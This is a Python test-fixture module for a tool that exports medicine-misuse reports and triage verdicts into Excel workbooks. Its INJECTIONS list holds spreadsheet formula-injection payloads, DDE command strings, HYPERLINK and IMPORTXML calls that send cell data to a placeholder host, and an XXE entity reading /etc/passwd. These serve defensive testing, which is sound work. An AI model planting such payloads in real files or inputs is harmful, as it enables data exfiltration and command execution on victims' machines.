"""Reports and verdicts made by hand, for what the exports do with them."""

import io
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import python_calamine
from msgspec import structs

from exports.model import ExportContext, ExportedDossier
from exports.published.changes import Comparison, changes_of, shares_of, since
from exports.published.workbook_set import WorkbookSet
from exports.readers.policy import Policy, parse_policy
from exports.sheets.columns import ColumnsFile, parse_columns
from mappings.dossier.model import Attachment, Company, DossierState, Place
from mappings.report.model import Answer, AnswerState, Report, Value
from mappings.schema.file import parse_mapping
from mappings.schema.model import Audience, FieldSpec, FormMapping
from triage.verdict.model import (
    Assessment,
    ItemResult,
    SharedPriority,
    Status,
    Verdict,
)

ROOT = Path(__file__).parents[2]
MOMENT = datetime(2026, 3, 12, 13, 5, tzinfo=UTC)


def mapping() -> FormMapping:
    path = ROOT / "mappings" / "unc" / "mapping.yaml"
    return parse_mapping(path.read_text(encoding="utf-8"), source=path.name)


def columns() -> ColumnsFile:
    path = ROOT / "exports" / "unc" / "columns.yaml"
    return parse_columns(path.read_text(encoding="utf-8"), source=path.name)


def policy() -> Policy:
    path = ROOT / "exports" / "unc" / "policy.yaml"
    return parse_policy(path.read_text(encoding="utf-8"), source=path.name)


MAPPING = mapping()
COLUMNS = columns()
POLICY = policy()


def context(**changes: Any) -> ExportContext:
    made = ExportContext(
        demarche=4242,
        title="Signalement d'un usage non conforme d'un médicament",
        dossier_url="https://demarche.example.gouv.fr/dossiers/{number}",
        mapping=MAPPING,
        ruleset="2026.1",
        software="passerelle-unc 0.1.0",
        watermark=MOMENT,
        read_at=MOMENT,
    )
    return replace(made, **changes)


def answered(value: Value) -> Answer:
    return Answer(AnswerState.ANSWERED, value)


BESIDE = (
    "conflicts",
    "held",
    "opinions",
    "situation",
    "first_checked_at",
    "corrected",
    "medicines",
)
INJECTIONS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://exemple.invalid?x="&A1;"clic")',
    '=IMPORTXML("http://exemple.invalid";"//a")',
    'a";=1+1;"b',
    "a;=1+1",
    "a\r\n=1+1;b",
    "&xxe; <!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "]]></t></is></c><c><f>1+1</f></c>",
    "_x003D_1+1",
)
"""What strangers type to have a spreadsheet run something."""
BLANK = Answer(AnswerState.BLANK)
NOT_ASKED = Answer(AnswerState.NOT_ASKED)
PDF = Attachment("rcp.pdf", 2048, "abc", "application/pdf", "safe", MOMENT)


def sample(spec: FieldSpec, text: str) -> Value:
    """A value of the field's type, saying ``text`` wherever it can."""
    if spec.type == "rows":
        return ({name: answered(sample(one, text)) for name, one in spec.fields.items()},)
    samples: dict[str, Value] = {
        "yes_no": True,
        "checkbox": True,
        "integer": 1234,
        "decimal": Decimal("12.5"),
        "date": date(2026, 1, 15),
        "datetime": MOMENT,
        "choices": (text, "Population"),
        "company": Company("12345678200010", text),
        "region": Place("region", "76", text),
        "departement": Place("departement", "31", text),
        "files": (structs.replace(PDF, filename=f"{text}.pdf"),),
    }
    return samples.get(spec.type, text)


def report(number: int = 101, **changes: Any) -> Report:
    """A report with every field answered; `fields` and `annotations` replace single answers."""
    fields: dict[str, Answer] = {
        name: answered(sample(spec, spec.title)) for name, spec in MAPPING.fields.items()
    }
    fields["secret_affaires"] = BLANK
    fields |= changes.pop("fields", {})
    annotations: dict[str, Answer] = dict.fromkeys(MAPPING.annotations, BLANK)
    annotations |= changes.pop("annotations", {})
    made = Report(
        number=number,
        dossier_id=f"D-{number}",
        state=DossierState.EN_CONSTRUCTION,
        archived=False,
        revision_id="R2",
        deposited_at=datetime(2026, 2, 3, 22, 30, tzinfo=UTC),
        champs_modified_at=MOMENT,
        decided_at=None,
        groupe="défaut",
        usager_email="declarant@exemple.fr",
        demandeur=Company("12345678200010", "Laboratoires Exemple"),
        fields=fields,
        annotations=annotations,
        unmapped=(),
        correction_pending_since=None,
    )
    return replace(made, **changes)


def item(verdict: Verdict = Verdict.PRESENT, **changes: Any) -> ItemResult:
    made = ItemResult(
        id="M1",
        name="Spécialité",
        section="3. Médicaments",
        expected="Au moins une spécialité, chacune nommée.",
        mandatory=True,
        verdict=verdict,
        reason="" if verdict is Verdict.PRESENT else "absente",
        fields=("specialites",),
        lost=Decimal(0),
    )
    return replace(made, **changes)


def assessment(number: int = 101, **changes: Any) -> Assessment:
    shared = SharedPriority(
        changes.get("priority", "P2"), changes.get("criteria", ()), changes.get("to_verify", ())
    )
    made = Assessment(
        shared=shared,
        number=number,
        fingerprint="f",
        ruleset="2026.1",
        status=Status.COMPLET,
        score=92,
        band="bien documenté",
        admissible=True,
        items=(item(),),
        out_of_scope=None,
        unanswered_scope=(),
        priority="P2",
        criteria=(),
        warnings=(),
    )
    return replace(made, **changes)


def entry(number: int = 101, **changes: Any) -> ExportedDossier:
    """One dossier; changes go to the report, or to the verdict with ``verdict={...}``."""
    verdict = changes.pop("verdict", {})
    beside = {name: changes.pop(name) for name in BESIDE if name in changes}
    return ExportedDossier(report(number, **changes), assessment(number, **verdict), **beside)


def build(
    entries: Sequence[ExportedDossier], *, audience: Audience = "agence", **changes: Any
) -> bytes:
    """A workbook of these dossiers with the project's own columns and policy."""
    made = context(**changes)
    return WorkbookSet(entries, made, COLUMNS, POLICY).workbook(audience)


def after(now: WorkbookSet, before: WorkbookSet) -> WorkbookSet:
    """Workbooks that tell what changed since those of an edition."""

    def compare(author: str) -> Comparison:
        audience: Audience = "agence" if author == "agence" else "reseau"
        old, new = ({one.number: one for one in made.handed(audience)} for made in (before, now))
        agency = audience == "agence"
        changes = changes_of(
            author,
            old,
            new,
            masks=() if agency else (POLICY.mask, POLICY.patient_mask),
            retold=agency or before.versions == now.versions,
            shares=shares_of(COLUMNS.dossiers_sheet),
        )
        return since("édition 2026-S11 du lundi 9 mars 2026", changes)

    return replace(now, compare=compare)


def by_openpyxl(content: bytes, sheet: str) -> list[tuple[Any, ...]]:
    book = openpyxl.load_workbook(io.BytesIO(content), read_only=True)  # this sheet alone
    rows = [tuple(row) for row in book[sheet].iter_rows(values_only=True)]
    book.close()
    return rows


def by_calamine(content: bytes, sheet: str) -> list[list[Any]]:
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(content))
    return book.get_sheet_by_name(sheet).to_python(skip_empty_area=False)


def _as_openpyxl(cell: Any) -> Any:
    """A cell as openpyxl reads it, which takes ten times as long."""
    match cell:
        case "":
            return None
        case float() if cell.is_integer():
            return int(cell)
        case datetime() | bool():
            return cell
        case date():
            return datetime(cell.year, cell.month, cell.day)  # noqa: DTZ001 (as a workbook)
        case _:
            return cell


def records(content: bytes, sheet: str, *, header: int = 0) -> list[dict[str, Any]]:
    """Rows of a sheet by header, which stands in that row, else below what is said over it."""
    lines = [[_as_openpyxl(cell) for cell in line] for line in by_calamine(content, sheet)]
    said = None in lines[0] and None not in [*lines, lines[0]][1]
    names, *rows = lines[(header or 1 + said) - 1 :]
    return [dict(zip(names, row, strict=True)) for row in rows]


def parts(content: bytes) -> dict[str, bytes]:
    """Every part of the package, unzipped."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}
